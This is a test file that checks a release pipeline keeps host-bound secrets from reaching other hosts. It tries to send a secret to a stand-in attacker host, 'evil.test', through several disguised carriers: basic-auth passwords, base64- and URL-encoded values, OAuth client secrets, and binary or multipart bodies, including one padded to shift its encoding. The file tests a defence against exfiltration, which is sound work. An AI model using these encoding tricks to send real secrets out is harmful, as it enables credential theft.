import { describe, expect, it } from 'vitest'
import type { Json } from '#core/kernel/json'
import { fakeNetwork, publish, runnerOn } from '../support/run-release'

const KEY = 'canary+of/one host&91=='
/** A secret that is base64 itself, as keys often are. */
const KEY_64 = btoa('canary-of-one-host-91-in-bytes')
const secrets = { KEY, KEY_64 }
const hosts = { KEY: ['api.test'], KEY_64: ['api.test'] }

async function run(config: (url: string) => Json, host: string) {
  const url = `https://${host}/`
  const request = { url, method: 'POST', retry: { max_attempts: 1 }, ...(config(url) as object) }
  const stages = [{ id: 'call', component: 'http_request', config: request as Json }]
  const release = await publish({ name: 'bound', triggers: [{ type: 'manual' }], stages }, { secrets, hosts })
  const network = fakeNetwork()
  const seq = await release.start()
  await release.serve(runnerOn(network))
  return { sent: network.sent, end: await release.end(seq) }
}

const basic = (password: string) => () => ({ auth: { type: 'basic', username: 'bob', password } })
const oauth = (token_url: string) => ({
  auth: { type: 'oauth2_client_credentials', token_url, client_id: 'me', client_secret: '{{ secrets.KEY }}' },
})
const file = (base64: string) => ({ body_type: 'multipart', body: { file: { filename: 'f', base64 } } })

const carriers: readonly (readonly [string, (url: string) => Json])[] = [
  ['basic credentials', basic('{{ secrets.KEY }}')],
  ['basic credentials, in base64 before', basic('{{ base64_encode(secrets.KEY) }}')],
  ['basic credentials, escaped before', basic('{{ url_encode(secrets.KEY) }}')],
  ['the credentials of an OAuth client', oauth],
  ['a binary body', () => ({ body_type: 'binary', body: '{{ secrets.KEY_64 }}' })],
  ['a binary body, moved by a few bits', () => ({ body_type: 'binary', body: 'A{{ secrets.KEY_64 }}AAA' })],
  ['a file of a form', () => file('{{ secrets.KEY_64 }}')],
]

describe('a secret that is bound to hosts', () => {
  it.for(carriers)('leaves for no other host in %s', async ([, config]) => {
    const { sent, end } = await run(config, 'evil.test')
    expect([sent, end.error?.code]).toEqual([[], 'secret_host_denied'])
  })

  it.for(carriers)('reaches its own host in %s, and no redirect takes it elsewhere', async ([, config]) => {
    const { sent } = await run(config, 'api.test')
    expect(sent[0]).toMatchObject({ url: 'https://api.test/', staysOnHost: true })
  })
})
